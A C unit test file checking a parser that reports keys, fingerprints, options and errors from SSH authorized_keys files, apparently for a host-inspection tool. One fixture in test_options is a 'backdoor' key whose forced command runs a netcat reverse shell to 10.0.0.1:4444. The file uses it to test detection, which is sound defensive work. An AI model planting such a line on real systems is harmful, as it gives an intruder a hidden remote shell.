/* test_detail_keys.c - unit tests of fh_detail_authorized_keys(): keys, options, errors, bounds. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "common/common.h"
#include "persist/persist.h"

/* Real keys made with ssh-keygen; each FP_* is what `ssh-keygen -lf` printed for it. */
#define ED25519_TYPE "ssh-ed25519"
#define ED25519_BLOB "AAAAC3NzaC1lZDI1NTE5AAAAIL0hCSsn3cwgZV++kADhfKHUe7qRf6mpBZlpQsUgIvzC"
#define ED25519	     ED25519_TYPE " " ED25519_BLOB
#define FP_ED25519   "SHA256:EtriLgypL1KOHFRV3FqwHkOXi6HsdPuXelkVehSOePE"

#define RSA                                                                                        \
	"ssh-rsa "                                                                                 \
	"AAAAB3NzaC1yc2EAAAADAQABAAABAQCf1HjbJoEC2bxF4AgaTRdLSEiMcBhJPkbN3wOBK0qPi9w+rdks0tYbIK52" \
	"ewJNKDSdmZTJkGhMeGnGYj+wjQLIy3hESrm2u7RLIpl7PrHryX/xqTwe782whTpq58LYdztjJoh+0tCDcbCAHzfy" \
	"jLAVNfplzLRjD9Ld+oZh/F+LSZUfcOCuf07PI45NBYvQlB3yUIZV9Erfcj6AiNsppVMQXqbzRpuAUSS/v41hx7m2" \
	"LFhQtbgRSrPuGVKbWcHCVJtj99ODInawmwAawc2SvTVLASJd81+ExqNPb/sDICuUIQg5NlD/fNbKH5FrkavRLQ4Z" \
	"TiFYLRegU6UMTFe/KGgN"
#define FP_RSA "SHA256:dX8jWDGMM/7YIRm6srZxzHRwsuggWzT4VIbR3fX41Jo"

#define ECDSA_BLOB                                                                                 \
	"AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBAAydXmWoSDi5S2USaIryqUAvy+/VVPhEZjq" \
	"wHdlnQp1j5xjLaHmfcYrFWsAttHm2XVmiZaeNqWRDZi4rsJTUgs="
#define ECDSA "ecdsa-sha2-nistp256 " ECDSA_BLOB
/* The same blob with non-zero bits under its padding: b64_pton() refuses it. */
#define ECDSA_STRAY_BITS                                                                           \
	"AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBAAydXmWoSDi5S2USaIryqUAvy+/VVPhEZjq" \
	"wHdlnQp1j5xjLaHmfcYrFWsAttHm2XVmiZaeNqWRDZi4rsJTUgt="
#define FP_ECDSA "SHA256:4e0D7rKz2/D1woUZQ93e72b1jSDLy0HKBTlNkM3oZZY"

/* The ed25519 key above certified by a CA: ssh-keygen prints the certified key's print. */
#define CERT                                                                                       \
	"ssh-ed25519-cert-v01@openssh.com "                                                        \
	"AAAAIHNzaC1lZDI1NTE5LWNlcnQtdjAxQG9wZW5zc2guY29tAAAAIJ8Z0x27Th3vxja9co/Hh1oAZDAQrd88WAfs" \
	"iqQveZYjAAAAIL0hCSsn3cwgZV++kADhfKHUe7qRf6mpBZlpQsUgIvzCAAAAAAAAAAAAAAABAAAAAmlkAAAACQAA" \
	"AAVhbGljZQAAAAAAAAAA//////////8AAAAAAAAAggAAABVwZXJtaXQtWDExLWZvcndhcmRpbmcAAAAAAAAAF3Bl" \
	"cm1pdC1hZ2VudC1mb3J3YXJkaW5nAAAAAAAAABZwZXJtaXQtcG9ydC1mb3J3YXJkaW5nAAAAAAAAAApwZXJtaXQt" \
	"cHR5AAAAAAAAAA5wZXJtaXQtdXNlci1yYwAAAAAAAAAAAAAAMwAAAAtzc2gtZWQyNTUxOQAAACBlw5hKkxmRJAGU" \
	"bJmCip8Jjxo4XGjBUFKeckHxLJN/MgAAAFMAAAALc3NoLWVkMjU1MTkAAABAOHL1A7yRhNH6LmAMuIorBMmg8WPC" \
	"SzK0gQFsnXI2DhDpwm7TaRc/eU/gEdWQIO4DtAJMAoUVU1PUHRrJDANLDw=="

/* The detail of len bytes of text as compact JSON with sorted keys; free() it. */
static char *detail(const char *text, size_t len)
{
	json_t *j = fh_detail_authorized_keys(text, len);
	char *s;

	assert_non_null(j);
	s = json_dumps(j, JSON_SORT_KEYS | JSON_COMPACT);
	assert_non_null(s);
	json_decref(j);
	return s;
}

static void expect(const char *text, const char *want)
{
	char *got = detail(text, strlen(text));

	assert_string_equal(got, want);
	free(got);
}

static void test_plain(void **state)
{
	(void)state;
	expect(ED25519 " alice@host\n",
	       "{\"errors\":[],\"keys\":[{\"comment\":\"alice@host\",\"fingerprint\":\"" FP_ED25519
	       "\",\"line\":1,\"options\":[],\"type\":\"ssh-ed25519\"}]}");
}

static void test_multiple(void **state)
{
	(void)state;
	/* A comment with spaces, no comment (trailing blanks only), a certificate. */
	expect("# keys\n\n" RSA "   bob at work laptop  \n" ECDSA " \n\t" ED25519 "\n" CERT
	       " alice@host",
	       "{\"errors\":[],\"keys\":["
	       "{\"comment\":\"bob at work laptop\",\"fingerprint\":\"" FP_RSA
	       "\",\"line\":3,\"options\":[],\"type\":\"ssh-rsa\"},"
	       "{\"fingerprint\":\"" FP_ECDSA
	       "\",\"line\":4,\"options\":[],\"type\":\"ecdsa-sha2-nistp256\"},"
	       "{\"fingerprint\":\"" FP_ED25519
	       "\",\"line\":5,\"options\":[],\"type\":\"ssh-ed25519\"},"
	       "{\"comment\":\"alice@host\",\"fingerprint\":\"" FP_ED25519
	       "\",\"line\":6,\"options\":[],\"type\":\"ssh-ed25519-cert-v01@openssh.com\"}]}");
}

static void test_options(void **state)
{
	(void)state;
	expect("command=\"/bin/sh -c \\\"nc 10.0.0.1 4444, -e sh\\\"\",from=\"10.0.0.*,!10.0.0.5\","
	       "no-pty,environment=\"A=b c\" " ED25519 " backdoor\n"
	       "NO-PTY,permitopen=\"h:22\" " RSA "\n"
	       "From=\"x\",COMMAND=\"a\",command=\"b\" " ECDSA "\n",
	       "{\"errors\":[],\"keys\":["
	       "{\"comment\":\"backdoor\",\"fingerprint\":\"" FP_ED25519 "\","
	       "\"forced_command\":\"/bin/sh -c \\\"nc 10.0.0.1 4444, -e sh\\\"\","
	       "\"from\":\"10.0.0.*,!10.0.0.5\",\"line\":1,\"options\":["
	       "\"command=\\\"/bin/sh -c \\\\\\\"nc 10.0.0.1 4444, -e sh\\\\\\\"\\\"\","
	       "\"from=\\\"10.0.0.*,!10.0.0.5\\\"\",\"no-pty\",\"environment=\\\"A=b c\\\"\"],"
	       "\"type\":\"ssh-ed25519\"},"
	       "{\"fingerprint\":\"" FP_RSA "\",\"line\":2,"
	       "\"options\":[\"NO-PTY\",\"permitopen=\\\"h:22\\\"\"],\"type\":\"ssh-rsa\"},"
	       "{\"fingerprint\":\"" FP_ECDSA "\",\"forced_command\":\"a\",\"from\":\"x\","
	       "\"line\":3,\"options\":[\"From=\\\"x\\\"\",\"COMMAND=\\\"a\\\"\","
	       "\"command=\\\"b\\\"\"],\"type\":\"ecdsa-sha2-nistp256\"}]}");
}

static void test_errors(void **state)
{
	(void)state;
	expect(
	    ED25519_TYPE
	    " AAAA*C3NzaC1lZDI1NTE5AAAAIL0hCSsn3cwgZV++kADhfKHUe7qRf6mpBZlpQsUgIvz\n" ED25519_TYPE
	    " " ED25519_BLOB "=\n"
	    "ssh-rsa " ED25519_BLOB " mismatch\n"
	    "garbage here\n"
	    "# fine\n" ED25519 " ok\n"
	    "no-pty,command=\"unterminated " ED25519 "\n"
	    "no-pty\n" ED25519_TYPE "\n"
	    "command=/bin/sh " ED25519 "\n"
	    "ecdsa-sha2-nistp256 " ECDSA_STRAY_BITS "\n" ED25519_TYPE
	    " AAAAC3NzaC1lZDI1NTE5AAAAIL0hCSsn3cwgZV++kADhfKHUe7qRf6mpBZlpQsUgIv\n" ED25519_TYPE
	    " AAAAC3Nz\n"
	    "ssh-ed25519-cert-v01@openssh.com "
	    "AAAAIHNzaC1lZDI1NTE5LWNlcnQtdjAxQG9wZW5zc2guY29tAAAA\n",
	    "{\"errors\":["
	    "{\"line\":1,\"message\":\"key blob is not base64\"},"
	    "{\"line\":2,\"message\":\"key blob is not base64\"},"
	    "{\"line\":3,\"message\":\"key type does not match its blob\"},"
	    "{\"line\":4,\"message\":\"unknown key type\"},"
	    "{\"line\":7,\"message\":\"unterminated quote in key options\"},"
	    "{\"line\":8,\"message\":\"missing key type after the options\"},"
	    "{\"line\":9,\"message\":\"missing key blob\"},"
	    "{\"line\":10,\"message\":\"command= option is not quoted\"},"
	    "{\"line\":11,\"message\":\"key blob is not base64\"},"
	    "{\"line\":12,\"message\":\"key blob is not base64\"},"
	    "{\"line\":13,\"message\":\"key type does not match its blob\"},"
	    "{\"line\":14,\"message\":\"certificate blob is truncated\"}],"
	    "\"keys\":[{\"comment\":\"ok\",\"fingerprint\":\"" FP_ED25519 "\",\"line\":6,"
	    "\"options\":[],\"type\":\"ssh-ed25519\"},"
	    "{\"fingerprint\":\"" FP_ED25519 "\",\"line\":10,\"options\":[\"command=/bin/sh\"],"
	    "\"type\":\"ssh-ed25519\"}]}");
}

static void test_crlf(void **state)
{
	(void)state;
	expect("# c\r\n\r\nno-pty " ED25519 " alice@host\r\n" ECDSA "\r",
	       "{\"errors\":[],\"keys\":[{\"comment\":\"alice@host\",\"fingerprint\":\"" FP_ED25519
	       "\",\"line\":3,\"options\":[\"no-pty\"],\"type\":\"ssh-ed25519\"},"
	       "{\"fingerprint\":\"" FP_ECDSA
	       "\",\"line\":4,\"options\":[],\"type\":\"ecdsa-sha2-nistp256\"}]}");
}

static void test_sanitize(void **state)
{
	static const char text[] = "command=\"x\xff\0y\" " ED25519 " al\xc3\xa9\xe2\x82\0\x80\n";
	char *got;

	(void)state;
	got = detail(text, sizeof(text) - 1);
	assert_string_equal(got, "{\"errors\":[],\"keys\":[{\"comment\":\"al\xc3\xa9\xef\xbf\xbd"
				 "\xef\xbf\xbd\xef\xbf\xbd\",\"fingerprint\":\"" FP_ED25519 "\","
				 "\"forced_command\":\"x\xef\xbf\xbd\xef\xbf\xbdy\",\"line\":1,"
				 "\"options\":[\"command=\\\"x\xef\xbf\xbd\xef\xbf\xbdy\\\"\"],"
				 "\"type\":\"ssh-ed25519\"}]}");
	free(got);
}

static void test_empty(void **state)
{
	(void)state;
	expect("", "{\"errors\":[],\"keys\":[]}");
	expect("\n \t\n# only a comment\n\r", "{\"errors\":[],\"keys\":[]}");
}

static void test_bounds(void **state)
{
	struct fh_buf b = { 0 };
	json_t *j, *k;
	size_t i, n = FH_DETAIL_MAX_ITEMS + 2;

	(void)state;
	for (i = 0; i < n; i++)
		fh_buf_printf(&b, "%s key%zu\n", ED25519, i);
	fh_buf_printf(&b, "bad\n");
	assert_false(b.oom);
	j = fh_detail_authorized_keys(b.data, b.len);
	assert_non_null(j);
	assert_true(json_is_true(json_object_get(j, "truncated")));
	assert_int_equal(json_integer_value(json_object_get(j, "keys_total")), n);
	assert_int_equal(json_integer_value(json_object_get(j, "errors_total")), 1);
	k = json_object_get(j, "keys");
	assert_int_equal(json_array_size(k), FH_DETAIL_MAX_ITEMS);
	k = json_array_get(k, FH_DETAIL_MAX_ITEMS - 1);
	assert_int_equal(json_integer_value(json_object_get(k, "line")), FH_DETAIL_MAX_ITEMS);
	assert_string_equal(json_string_value(json_object_get(k, "fingerprint")), FP_ED25519);
	assert_int_equal(json_array_size(json_object_get(j, "errors")), 1);
	json_decref(j);

	/* A prefix that ends mid-key is one error, not a truncation. */
	j = fh_detail_authorized_keys(b.data, 10);
	assert_non_null(j);
	assert_null(json_object_get(j, "truncated"));
	json_decref(j);
	fh_buf_free(&b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_plain),	cmocka_unit_test(test_multiple),
		cmocka_unit_test(test_options), cmocka_unit_test(test_errors),
		cmocka_unit_test(test_crlf),	cmocka_unit_test(test_sanitize),
		cmocka_unit_test(test_empty),	cmocka_unit_test(test_bounds),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
